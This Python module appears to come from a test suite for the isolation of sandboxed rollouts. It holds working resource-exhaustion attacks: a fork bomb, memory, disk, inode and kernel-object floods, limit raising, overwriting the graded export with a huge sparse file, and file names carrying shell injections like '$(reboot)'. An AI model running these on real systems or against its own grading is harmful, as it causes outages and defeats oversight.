"""Attack programs that exhaust resources: each takes as much of one resource as it can, and keeps it.

Success is checked outside: on the host, on siblings, and by whether the rollout is graded.
"""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import resource
import signal
import socket
import sys
import threading
import time

from .kit import FACTS, Refused, call

_SECONDS = 1.5  # duration of an attack


def _until(work: object, most: int = 1 << 30) -> None:
    """Call `work` until it keeps failing, or for `_SECONDS`."""
    end, failures = time.monotonic() + _SECONDS, 0
    for _ in range(most):
        try:
            work()  # type: ignore[operator]
            failures = 0
        except (OSError, MemoryError, RuntimeError, Refused):
            failures += 1
            if failures > 64:
                return
        if time.monotonic() > end:
            return


def fork_bomb() -> None:
    """Fork, and fork in all children, as fast as possible; does not return."""
    end = time.monotonic() + _SECONDS
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            os.fork()
    os._exit(0)


def sleeping_processes() -> None:
    """Leave as many sleeping processes as possible in the background."""

    def spawn() -> None:
        if os.fork() == 0:
            os.setsid()
            for fd in (0, 1, 2):
                os.close(fd)
            time.sleep(3600)
            os._exit(0)

    _until(spawn)


def zombies() -> None:
    """Start children that die, and never wait for them."""

    def spawn() -> None:
        if os.fork() == 0:
            os._exit(0)

    _until(spawn)


def orphans() -> None:
    """Make many orphaned processes, which become children of process 1."""

    def spawn() -> None:
        pid = os.fork()
        if pid == 0:
            for _ in range(8):
                with contextlib.suppress(OSError):
                    if os.fork() == 0:
                        os._exit(0)
            os._exit(0)
        os.waitpid(pid, 0)

    _until(spawn)


def threads() -> None:
    """Start threads without end; does not return."""
    _until(lambda: threading.Thread(target=time.sleep, args=(_SECONDS,), daemon=True).start())
    os._exit(0)


def memory() -> None:
    """Allocate memory and write to it, until no more is given."""
    kept: list[bytearray] = []
    _until(lambda: kept.append(bytearray(b"x") * (4 << 20)))


def memory_of_many() -> None:
    """Allocate memory in many processes, each below its own limit."""
    for _ in range(16):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                memory()
                os._exit(0)
    memory()


def shared_memory() -> None:
    """Allocate shared mappings and unnamed files, which an address space limit does not count."""
    kept: list[object] = []

    def allocate() -> None:
        fd = os.memfd_create("x")
        os.truncate(fd, 8 << 20)
        view = mmap.mmap(fd, 8 << 20)
        for at in range(0, 8 << 20, 4096):
            view[at] = 1
        kept.append(fd)
        view.close()

    _until(allocate)


def pipes() -> None:
    """Fill kernel memory with enlarged, full pipes."""
    import fcntl

    kept: list[int] = []

    def allocate() -> None:
        reader, writer = os.pipe2(os.O_NONBLOCK)
        kept.extend((reader, writer))
        with contextlib.suppress(OSError):
            fcntl.fcntl(writer, 1031, 1 << 20)
        with contextlib.suppress(BlockingIOError):
            while True:
                os.write(writer, bytes(65536))

    _until(allocate)


def sockets() -> None:
    """Fill socket pairs with data and with descriptors of themselves."""
    kept: list[socket.socket] = []

    def allocate() -> None:
        left, right = socket.socketpair()
        kept.extend((left, right))
        left.setblocking(False)
        with contextlib.suppress(OSError):
            while True:
                socket.send_fds(left, [bytes(8192)], [right.fileno()] * 16)

    _until(allocate)


def queues() -> None:
    """Try to exhaust objects that a kernel limits for each user: queues, semaphores, timers, inotify, epoll."""
    kept: list[int] = []
    libc = ctypes.CDLL(None)

    def allocate() -> None:
        with contextlib.suppress(Refused):
            queue = call("msgget", 0, 0o600)
            libc.msgsnd(queue, ctypes.create_string_buffer(8192), 8000, 0o4000)
        with contextlib.suppress(Refused):
            call("semget", 0, 250, 0o600)
        kept.append(libc.inotify_init1(0))
        kept.append(libc.epoll_create1(0))
        kept.append(libc.timerfd_create(1, 0))
        libc.timer_create(1, None, ctypes.byref(ctypes.c_void_p()))
        if kept[-1] < 0:
            raise OSError

    _until(allocate)


def asynchronous_io() -> None:
    """Take the contexts of asynchronous I/O, whose number is limited for the whole kernel."""
    _until(lambda: call("io_setup", 512, ctypes.byref(ctypes.c_ulong(0))), 1000)


def a_full_disk() -> None:
    """Fill the disk to the last byte, in the work folder and in /tmp."""
    for folder in (".", "/tmp"):
        with contextlib.suppress(OSError), open(f"{folder}/full", "wb", buffering=0) as file:
            _until(lambda: file.write(bytes(1 << 20)))
        with contextlib.suppress(OSError), open(f"{folder}/full2", "wb", buffering=0) as file:
            _until(lambda: file.write(b"x"), 5000)


def every_inode() -> None:
    """Create empty files until there is no inode left, in the work folder and in /tmp."""
    for folder in (".", "/tmp"):
        names = iter(range(1 << 30))
        _until(lambda: os.close(os.open(f"{folder}/i{next(names)}", os.O_CREAT | os.O_WRONLY)))  # noqa: B023


def sparse_files() -> None:
    """Create sparse files of up to an exabyte, one of them in place of the export."""
    for name in ("calc.py", "sparse", "/tmp/sparse"):
        for size in (1 << 62, 1 << 50, 1 << 40, 1 << 34):
            with contextlib.suppress(OSError):
                with open(name, "ab") as file:
                    os.truncate(file.fileno(), size)
                break


def deep_folders() -> None:
    """Nest folders deeper than the longest path."""

    def deeper() -> None:
        os.mkdir("d" * 200)
        os.chdir("d" * 200)

    _until(deeper, 3000)
    with contextlib.suppress(OSError), open("bottom", "w") as file:
        file.write("x")


def many_links() -> None:
    """Create circular and dangling symbolic links, and thousands of hard links."""
    names = iter(range(1 << 30))
    with contextlib.suppress(OSError):
        os.symlink("b", "a")
        os.symlink("a", "b")

    def link() -> None:
        n = next(names)
        os.symlink("../" * 300 + "etc/passwd", f"s{n}")
        os.link("calc.py", f"h{n}")

    _until(link, 4000)


def odd_names() -> None:
    """Create files whose names are not UTF-8, have newlines, escapes or dashes, or the maximum length."""
    for raw in (b"\xff\xfe\x80.py", b"new\nline", b"\x1b[2J", b"--help", b"-rf", b"x" * 255, b"\xe2\x80\xae.py", b" ",
    b"~",
                b"$(reboot)", b"a;b", b"'", b"*"):  # fmt: skip
        with contextlib.suppress(OSError), open(raw, "wb") as file:
            file.write(b"\xff" * 10)
        with contextlib.suppress(OSError):
            os.mkdir(raw + b"d")


def open_files() -> None:
    """Keep as many files open as possible, in many background processes."""
    for _ in range(8):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                os.setsid()
                kept: list[int] = []
                _until(lambda: kept.append(os.open("/dev/null", os.O_RDONLY)))  # noqa: B023
                for fd in (0, 1, 2):
                    os.close(fd)
                time.sleep(3600)
                os._exit(0)


def a_flood_of_output() -> None:
    """Write to both output streams as fast as possible, without a newline."""
    for fd in (1, 2):
        if os.fork() == 0:
            _until(lambda: os.write(fd, b"y" * 65536))  # noqa: B023
            os._exit(0)
    for _ in range(2):
        os.wait()


def output_that_never_ends() -> None:
    """Start a background process that keeps our output open and writes a little now and then."""
    if os.fork() == 0:
        os.setsid()
        for _ in range(36000):
            time.sleep(0.1)
            with contextlib.suppress(OSError):
                os.write(1, b".")
        os._exit(0)


def processors() -> None:
    """Keep all cores busy from many processes, with real-time scheduling if possible."""
    for kind in (1, 2):  # FIFO, RR
        with contextlib.suppress(OSError):
            os.sched_setscheduler(0, kind, os.sched_param(50))
    with contextlib.suppress(OSError):
        os.nice(-20)
    for _ in range(8):
        if os.fork() == 0:
            end = time.monotonic() + _SECONDS
            while time.monotonic() < end:
                pass
            os._exit(0)
    for _ in range(8):
        os.wait()


def signals() -> None:
    """Queue real-time signals to this process."""
    signal.signal(signal.SIGRTMIN, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN, signal.SIGUSR1})
    _until(lambda: os.kill(os.getpid(), signal.SIGRTMIN), 200_000)


def a_huge_command() -> None:
    """Execute command lines of a megabyte over and over."""
    words = ["x" * 100_000] * 15

    def start() -> None:
        pid = os.fork()
        if pid == 0:
            os.execve("/bin/true", ["true", *words], {})
        os.waitpid(pid, 0)

    _until(start, 200)


def stopped_processes() -> None:
    """Stop several processes, including this one, so that they never end."""
    for _ in range(4):
        if os.fork() == 0:
            os.kill(os.getpid(), signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)


def unkillable_vfork() -> None:
    """Wait in vfork for a child that never executes anything; does not return."""
    libc = ctypes.CDLL(None)
    if libc.vfork() == 0:
        while True:
            libc.pause()


def raised_limits() -> str:
    """Try to raise all resource limits as far as possible; return evidence of success, or ""."""
    for kind in range(16):
        with contextlib.suppress(OSError, ValueError):
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            if FACTS.get("limited") and kind in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE):
                return f"limit {kind} is gone"
    return ""


def a_broken_interpreter() -> None:
    """Cause a stack overflow in C, an abort and a core dump; does not return."""
    if os.fork() == 0:
        sys.setrecursionlimit(1 << 30)
        deep: list[object] = []
        for _ in range(10_000_000):
            deep = [deep]
        repr(deep)
        os._exit(0)
    os.abort()
